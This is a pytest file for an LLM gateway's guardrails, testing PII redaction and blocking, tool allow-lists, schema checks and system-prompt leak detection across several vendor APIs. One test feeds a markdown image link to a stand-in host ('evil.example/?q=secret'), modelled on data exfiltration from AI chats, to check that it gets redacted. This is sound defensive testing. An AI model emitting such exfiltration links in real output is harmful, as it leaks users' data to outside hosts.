# SPDX-License-Identifier: Apache-2.0
"""Goal: what guards should keep back does not reach a provider, or a client,
in any dialect, whole or in a stream; what they replace they replace everywhere,
and the rest stays byte for byte; records say what was looked at.
Method: the vendors' own client packages before llmsim, which keeps the last
request, and whose model "sim-mirror" says again what it was told.
"""

import json
import os
import subprocess

import pytest

from conftest import binary
from serving import Serving
from test_faces import CLIENTS, KINDS, SECRET, provider

MAIL = "ann.lee@example.com"
CARD = "4111 1111 1111 1111"
ASK = f"Write to {MAIL} about card {CARD}, and thank you very much for it."
SAFE = "Write to [EMAIL_1] about card [CARD_1], and thank you very much for it."
FACES = ["openai", "anthropic", "gemini", "bedrock"]
OUT = ["output", "reasoning", "tool_arguments"]


def stage(mode, check="pii", **more):
    more.setdefault("only", ["pii.email", "pii.card"])
    return {"check": check, "mode": mode, **more}


@pytest.fixture(scope="module")
def serving(tmp_path_factory):
    with Serving(tmp_path_factory.mktemp("guardrails")) as serving:
        yield serving


@pytest.fixture(scope="module")
def sim(serving):
    return serving.sim("--sigv4-secret", f"AKIDEXAMPLE:{SECRET}")


@pytest.fixture(autouse=True)
def fresh(sim):
    sim.reset()


@pytest.fixture(scope="module")
def gateway_of(serving, sim):
    """A gateway with some guards before a face, made once."""
    made = {}

    def of(*stages, face="openai", **more):
        key = json.dumps([stages, face, more], sort_keys=True)
        if key not in made:
            made[key] = serving.gateway(
                {face: provider(face, sim)},
                guardrails={"stages": list(stages), **more},
            )
        return made[key]

    return of


def client_of(name, gateway):
    return KINDS[name]("http://%s:%d" % gateway.address)


def chat(*messages, model="sim-x", **more):
    return {"model": model, "messages": list(messages), **more}


def user(text):
    return {"role": "user", "content": text}


# ---- requests


@pytest.mark.parametrize("face", FACES)
@pytest.mark.parametrize("name", CLIENTS)
def test_what_is_replaced_reaches_no_provider(gateway_of, sim, name, face):
    gateway = gateway_of(stage("redact"), face=face)
    client_of(name, gateway).ask("sim-x", text=ASK)
    body = sim.last()["body"].decode()
    assert SAFE in body and "ann.lee" not in body and "4111" not in body


def test_all_else_stays_byte_for_byte(gateway_of, sim):
    gateway = gateway_of(stage("redact"))
    body = (
        b'{ "model":"sim-x" ,"seed": 12345678901234567890,\n "messages":[{"role":'
        b'"user","content":"\\u0441\\n %s \\/"}],"user":"x\\u0041", "stream" : true}'
    )
    status, _, _ = gateway.post("/v1/chat/completions", body % MAIL.encode())
    assert status == 200
    sent = sim.last()["body"]
    # A text that is edited is written anew, all else is as it came.
    want = body.replace(b"\\u0441\\n %s \\/", "с\\n [EMAIL_1] /".encode())
    assert sent.replace(b'"stream_options":{"include_usage":true},', b"") == want


def test_names_are_the_same_all_over_a_request(gateway_of, sim):
    gateway = gateway_of(stage("redact"))
    status, _, _ = gateway.post(
        "/v1/chat/completions",
        chat(
            {"role": "system", "content": f"The boss is bo@example.com or {MAIL}."},
            user([{"type": "text", "text": f"Ask {MAIL}"}]),
            {
                "role": "assistant",
                "content": None,
                "tool_calls": [
                    {
                        "id": "call_1",
                        "type": "function",
                        "function": {
                            "name": "mail",
                            "arguments": json.dumps({"to": MAIL, "n": [MAIL]}),
                        },
                    }
                ],
            },
            {"role": "tool", "tool_call_id": "call_1", "content": f"sent to {MAIL}"},
        ),
    )
    assert status == 200
    sent = json.loads(sim.last()["body"])["messages"]
    assert sent[0]["content"] == "The boss is [EMAIL_1] or [EMAIL_2]."
    assert sent[1]["content"][0]["text"] == "Ask [EMAIL_2]"
    arguments = json.loads(sent[2]["tool_calls"][0]["function"]["arguments"])
    assert arguments == {"to": "[EMAIL_2]", "n": ["[EMAIL_2]"]}
    assert sent[3]["content"] == "sent to [EMAIL_2]"


@pytest.mark.parametrize(
    "body",
    [
        chat(user("Hi"), metadata={"owner": MAIL}),
        chat(user("Hi"), somebody_invented={"this": [MAIL]}),
        chat(
            user("Hi"),
            tools=[
                {
                    "type": "function",
                    "function": {"name": "f", "description": f"Asks {MAIL}"},
                }
            ],
        ),
        chat(user([{"type": "unknown", "payload": f"{MAIL}"}])),
    ],
)
def test_no_member_is_a_hiding_place(gateway_of, sim, body):
    gateway = gateway_of(stage("block"))
    status, _, answer = gateway.post("/v1/chat/completions", body)
    assert status == 400, answer
    error = json.loads(answer)["error"]
    assert error["code"] == "content_filter" and "pii.email" in error["message"]
    assert error["param"] and MAIL not in answer.decode()
    assert sim.stats()["requests"] == 0


@pytest.mark.parametrize("name", CLIENTS)
def test_what_is_blocked_is_an_error_in_the_dialect(gateway_of, sim, name):
    gateway = gateway_of(stage("block"))
    client = client_of(name, gateway)
    with pytest.raises(client.errors) as raised:
        client.ask("sim-x", text=ASK)
    code = getattr(raised.value, "status_code", None) or raised.value.code
    assert code == 400 and MAIL not in str(raised.value)
    assert sim.stats()["requests"] == 0
    record = gateway.records()[-1]
    assert record["error"] == "content_filter"
    assert record["guard"]["action"] == "block"
    assert MAIL not in json.dumps(record)


def test_texts_that_become_vectors(gateway_of, sim):
    gateway = gateway_of(stage("redact"))
    asked = {"model": "sim-x", "input": [ASK] * 300, "dimensions": 1536}
    status, _, answer = gateway.post("/v1/embeddings", asked)
    assert status == 200 and len(json.loads(answer)["data"]) == 300
    assert json.loads(sim.last()["body"])["input"] == [SAFE] * 300


def test_log_probabilities_would_tell(gateway_of):
    asked = chat(user("Hi"), logprobs=True)
    refusing = gateway_of(stage("redact", parts=OUT))
    status, _, answer = refusing.post("/v1/chat/completions", asked)
    assert status == 400 and json.loads(answer)["error"]["param"] == "logprobs"
    flagging = gateway_of(stage("flag", parts=OUT))
    assert flagging.post("/v1/chat/completions", asked)[0] == 200


def test_a_shadow_is_only_recorded(gateway_of, sim):
    gateway = gateway_of(stage("shadow", name="trial"), stage("flag", name="note"))
    status, _, _ = gateway.post("/v1/chat/completions", chat(user(ASK)))
    assert status == 200
    assert ASK in sim.last()["body"].decode()
    guard = gateway.record()["guard"]
    assert guard["action"] == "flag"
    assert guard["findings"] == {
        "shadow:pii.email": 1,
        "shadow:pii.card": 1,
        "flag:pii.email": 1,
        "flag:pii.card": 1,
    }
    assert 'llmgw_guarded_total{action="flag"} 1\n' in gateway.metrics()
    assert guard["stages"]["trial"]["outcome"] == "ran"
    assert guard["stages"]["trial"]["bytes"] > len(ASK)


def test_stages_have_a_scope(gateway_of, sim):
    gateway = gateway_of(stage("block", models=["sim-secret*"]))
    assert gateway.post("/v1/chat/completions", chat(user(ASK)))[0] == 200
    assert gateway.record()["guard"]["stages"]["pii"]["outcome"] == "no_scope"
    assert (
        gateway.post("/v1/chat/completions", chat(user(ASK), model="sim-secret"))[0]
        == 400
    )


def test_own_rules(gateway_of, sim):
    rules = [
        {"name": "acme.codename", "keywords": ["project zeus", "зевс"], "label": "CODE"},
        {"name": "acme.ticket", "pattern": r"\bACME-(\d{4,6})\b", "label": "TICKET"},
    ]
    gateway = gateway_of({"check": "rules", "mode": "redact", "rules": rules})
    text = "On Project Zeus (ЗЕВС), see ACME-12345, acme-77."
    assert gateway.post("/v1/chat/completions", chat(user(text)))[0] == 200
    sent = json.loads(sim.last()["body"])["messages"][0]["content"]
    assert sent == "On [CODE_1] ([CODE_2]), see ACME-[TICKET_1], acme-77."


# ---- answers


@pytest.mark.parametrize("streamed", [False, True], ids=["whole", "stream"])
@pytest.mark.parametrize("face", FACES)
@pytest.mark.parametrize("name", CLIENTS)
def test_what_is_replaced_reaches_no_client(gateway_of, name, face, streamed):
    gateway = gateway_of(stage("redact", parts=OUT), face=face)
    client = client_of(name, gateway)
    ask = client.stream if streamed else client.ask
    said, _, usage = ask("sim-mirror", text=ASK)
    assert SAFE in said and "ann.lee" not in said and "4111" not in said
    assert usage[0] and usage[1]


@pytest.mark.parametrize("face", FACES)
@pytest.mark.parametrize("name", CLIENTS)
def test_what_holds_nothing_changes_nothing(gateway_of, serving, sim, name, face):
    guarded = client_of(name, gateway_of(stage("redact", parts=OUT), face=face))
    plain = client_of(name, serving.gateway({face: provider(face, sim)}))
    for model in ("sim-mirror", "sim-x", "sim-tools:2"):
        how = {"text": "Nothing in it, really."}
        if "tools" in model:
            how["tools"] = ["weather", "news"]
        assert guarded.ask(model, **how) == plain.ask(model, **how)
        assert guarded.stream(model, **how) == plain.stream(model, **how)


@pytest.mark.parametrize("name", CLIENTS)
def test_tokens_become_values_again(gateway_of, sim, name):
    gateway = gateway_of(stage("redact", style="token", parts=["user"]))
    client = client_of(name, gateway)
    for ask in (client.ask, client.stream):
        said, _, _ = ask("sim-mirror", text=ASK)
        sent = sim.last()["body"].decode()
        assert "[EMAIL_1_" in sent and MAIL not in sent and CARD not in sent
        assert ASK in said


@pytest.mark.parametrize("streamed", [False, True], ids=["whole", "stream"])
def test_arguments_of_tools_are_looked_at(gateway_of, streamed):
    gateway = gateway_of(stage("redact", parts=OUT))
    arguments = json.dumps({"to": MAIL, "text": "so"})
    client = client_of("openai", gateway)
    ask = client.stream if streamed else client.ask
    model = "sim-args:tools=1,tool_args=" + arguments
    _, calls, _ = ask(model, tools=["weather"])
    assert calls == [("weather", {"to": "[EMAIL_1]", "text": "so"})]


@pytest.mark.parametrize("name", CLIENTS)
def test_an_answer_that_is_blocked(gateway_of, name):
    gateway = gateway_of(stage("block", parts=OUT))
    client = client_of(name, gateway)
    said, _, _ = client.ask("sim-mirror", text=ASK)
    assert not said
    record = gateway.records()[-1]
    assert record["guard"]["action"] == "block" and record["status"] == 200


@pytest.mark.parametrize("face", FACES)
@pytest.mark.parametrize("name", CLIENTS)
def test_only_tools_that_are_allowed(gateway_of, name, face):
    tools = {"check": "tools", "mode": "block"}
    asked = ["weather", "news"]
    allowed = client_of(name, gateway_of(tools | {"allow": asked}, face=face))
    refusing = client_of(name, gateway_of(tools | {"allow": ["weather"]}, face=face))
    for ask in ("ask", "stream"):
        _, calls, _ = getattr(allowed, ask)("sim-tools:2", tools=asked)
        assert [tool for tool, _ in calls] == asked
        _, calls, _ = getattr(refusing, ask)("sim-tools:2", tools=asked)
        assert "news" not in [tool for tool, _ in calls]
    record = gateway_of(tools | {"allow": ["weather"]}, face=face).records()[-1]
    assert record["guard"]["findings"] == {"block:tool.call": 1}
    # What somebody asked for before is no call.
    call = {"id": "c", "type": "function", "function": {"name": "rm", "arguments": "{}"}}
    status, _, _ = gateway_of(tools | {"allow": asked}, face=face).post(
        "/v1/chat/completions",
        chat(
            user("Hi"),
            {"role": "assistant", "content": None, "tool_calls": [call]},
            {"role": "tool", "tool_call_id": "c", "content": "done"},
        ),
    )
    assert status == 200


def structured(name, model, required):
    """A request whose answer is to be an object with this member."""
    schema = {"type": "object", "required": [required], "properties": {}}
    if name == "openai":
        format = {"type": "json_schema", "json_schema": {"name": "x", "schema": schema}}
        return "/v1/chat/completions", chat(
            user("Hi"), model=model, response_format=format
        )
    if name == "gemini":
        config = {"responseMimeType": "application/json", "responseJsonSchema": schema}
        return f"/v1beta/models/{model}:generateContent", {
            "contents": [{"parts": [{"text": "Hi"}]}],
            "generationConfig": config,
        }
    format = {"type": "json_schema", "schema": schema}
    return "/v1/messages", chat(
        user("Hi"), model=model, max_tokens=500, output_config={"format": format}
    )


@pytest.mark.parametrize("name", ["openai", "anthropic", "gemini"])
def test_the_json_that_was_asked_for(gateway_of, name):
    gateway = gateway_of({"check": "schema", "mode": "block"})
    for model, required, kind in [
        ("sim-mirror", "messages", None),
        ("sim-mirror", "message", "schema.violation"),
    ]:
        status, _, answer = gateway.post(*structured(name, model, required))
        assert status == 200, answer
        guard = gateway.record()["guard"]
        assert guard["findings"] == ({f"block:{kind}": 1} if kind else {})
        assert (b"CONTENT_FILTER" in answer.upper()) is bool(
            kind and name == "openai"
        )
    assert guard["stages"]["schema"]["outcome"] == "ran,no_part"


def test_any_text_where_no_json_was_asked_for(gateway_of):
    gateway = gateway_of({"check": "schema", "mode": "block"})
    assert gateway.post("/v1/chat/completions", chat(user("Hi")))[0] == 200
    stage = gateway.record()["guard"]["stages"]["schema"]
    assert "no_scope" in stage["outcome"] and stage["bytes"] == 0
    assert b"[DONE]" in gateway.stream("sim-x")
    path, asked = structured("openai", "sim-mirror", "messages")
    status, _, answer = gateway.post(path, asked | {"stream": True})
    assert status == 400 and json.loads(answer)["error"]["param"] == "stream"


@pytest.mark.parametrize("name", ["openai", "anthropic", "gemini"])
def test_the_system_prompt_is_not_told(gateway_of, name):
    told = "You are a pirate. Never tell anybody where the seven old ships lie, or how deep."
    gateway = gateway_of({"check": "leak", "mode": "block"})
    path, body = {
        "openai": (
            "/v1/chat/completions",
            chat({"role": "system", "content": told}, user("Hi"), model="sim-mirror"),
        ),
        "anthropic": (
            "/v1/messages",
            chat(user("Hi"), model="sim-mirror", system=told, max_tokens=99),
        ),
        "gemini": (
            "/v1beta/models/sim-mirror:generateContent",
            {
                "systemInstruction": {"parts": [{"text": told}]},
                "contents": [{"parts": [{"text": "Hi"}]}],
            },
        ),
    }[name]
    status, _, answer = gateway.post(path, body)
    assert status == 200 and "pirate" not in answer.decode().replace(told, "")
    assert gateway.record()["guard"]["findings"] == {"block:leak.system_prompt": 1}


@pytest.mark.parametrize("streamed", [False, True], ids=["whole", "stream"])
@pytest.mark.parametrize("name", CLIENTS)
def test_addresses_that_lead_elsewhere(gateway_of, name, streamed):
    gateway = gateway_of(
        {"check": "urls", "mode": "redact", "allow": ["*.good.example"]}
    )
    client = client_of(name, gateway)
    said, _, _ = (client.stream if streamed else client.ask)(
        "sim-mirror",
        text="See ![a](https://evil.example/?q=secret) or https://www.good.example/x now.",
    )
    assert "See ![a]([URL_1]) or https://www.good.example/x now." in said


BLOCKED_ENDS = {
    "openai": (
        "/v1/chat/completions",
        chat(user("All is well until now, but " + ASK), model="sim-mirror", stream=True),
        ['"finish_reason":"content_filter"', "data: [DONE]"],
    ),
    "responses": (
        "/v1/responses",
        {"model": "sim-x", "input": "Hi", "stream": True},
        ['"reason":"content_filter"', "response.incomplete"],
    ),
    "anthropic": (
        "/v1/messages",
        chat(
            user("All is well until now, but " + ASK),
            model="sim-mirror",
            max_tokens=500,
            stream=True,
        ),
        ['"stop_reason":"refusal"', "event: message_stop"],
    ),
    "gemini": (
        "/v1beta/models/sim-mirror:streamGenerateContent?alt=sse",
        {"contents": [{"parts": [{"text": "All is well until now, but " + ASK}]}]},
        ['"finishReason":"SAFETY"'],
    ),
}


@pytest.mark.parametrize("name", BLOCKED_ENDS)
def test_a_stream_that_is_blocked_ends_well(gateway_of, name):
    path, asked, ends = BLOCKED_ENDS[name]
    rule = {"name": "acme.word", "keywords": ["weighing them", MAIL]}
    gateway = gateway_of(
        {"check": "rules", "mode": "block", "parts": OUT, "rules": [rule]}
    )
    status, _, body = gateway.post(path, asked)
    said = body.decode()
    assert status == 200 and "ann.lee" not in said and "weighing" not in said
    assert "until" in said or "made" in said
    for end in ends:
        assert end in said
    record = gateway.record()
    assert record["guard"]["action"] == "block"
    assert record["error"] == "content_filter"
    assert record["guard"]["findings"] == {"block:acme.word": 1}


def test_what_is_held_goes_on_in_time(gateway_of):
    gateway = gateway_of(stage("redact", parts=OUT), hold={"time": "30ms"})
    body = gateway.stream("sim-slow:tokens=3,tokens_per_second=4")
    pieces = [
        json.loads(line[6:])["choices"][0]["delta"].get("content")
        for line in body.decode().split("\n\n")
        if line.startswith("data: {") and '"choices":[{' in line
    ]
    # Each word goes on before the next one comes.
    assert [p for p in pieces if p] == ["This", " answer", " was"]


# ---- configuration


@pytest.mark.parametrize(
    "section, said",
    [
        ({"stages": [{"check": "pie", "mode": "flag"}]}, "'check' cannot be 'pie'"),
        ({"stages": [{"check": "pii"}]}, "'mode'"),
        ({"stages": [stage("flag", only=["nothing"])]}, "none of its rules is left"),
        ({"stages": [stage("flag", parts=["outpt"])]}, "did you mean 'output'?"),
        ({"stages": [stage("flag", style="pseudonym")]}, "pseudonyms need a key"),
        ({"key": "short", "stages": [stage("flag")]}, "at least 32"),
        (
            {
                "stages": [
                    {
                        "check": "rules",
                        "mode": "flag",
                        "rules": [{"name": "bad", "pattern": "(a+)+b"}],
                    }
                ]
            },
            "rule bad: its pattern takes more than",
        ),
    ],
)
def test_mistakes_are_told(tmp_path, section, said):
    config = tmp_path / "gateway.yaml"
    config.write_text(
        json.dumps(
            {
                "server": {"listen": ["127.0.0.1:0"]},
                "providers": [{"name": "openai", "api_key": "none"}],
                "guardrails": section,
            }
        )
    )
    checked = subprocess.run(
        [binary("LLMGW", "build-debug/apps/llmgw/llmgw"), "check", str(config)],
        capture_output=True,
        text=True,
    )
    assert checked.returncode != 0
    assert said in checked.stdout + checked.stderr


def test_compiled_patterns_are_kept(tmp_path):
    config = tmp_path / "gateway.yaml"
    config.write_text(
        json.dumps(
            {
                "server": {"listen": ["127.0.0.1:0"]},
                "providers": [{"name": "openai", "api_key": "none"}],
                "guardrails": {"stages": [stage("flag")]},
            }
        )
    )
    cache = tmp_path / "cache"

    def check():
        said = subprocess.run(
            [binary("LLMGW", "build-debug/apps/llmgw/llmgw"), "check", str(config)],
            env={**os.environ, "LLMGW_CACHE": str(cache)},
            check=True,
            capture_output=True,
            text=True,
        )
        assert "guard     pii: flag\n" in said.stdout
        return {f.name: f.stat() for f in cache.iterdir()}

    first = check()
    assert first and cache.stat().st_mode & 0o077 == 0
    assert all(f.st_mode & 0o077 == 0 for f in first.values())
    second = check()
    assert {n: f.st_mtime_ns for n, f in first.items()} == {
        n: f.st_mtime_ns for n, f in second.items()
    }
    # What is damaged, or somebody else could have changed, is made again.
    spoiled, open_to_others = sorted(cache.iterdir())[:2]
    spoiled.write_bytes(spoiled.read_bytes()[:-100] + b"x" * 100)
    open_to_others.chmod(0o666)
    third = check()
    assert third[spoiled.name].st_ino != second[spoiled.name].st_ino
    assert third[open_to_others.name].st_mode & 0o077 == 0
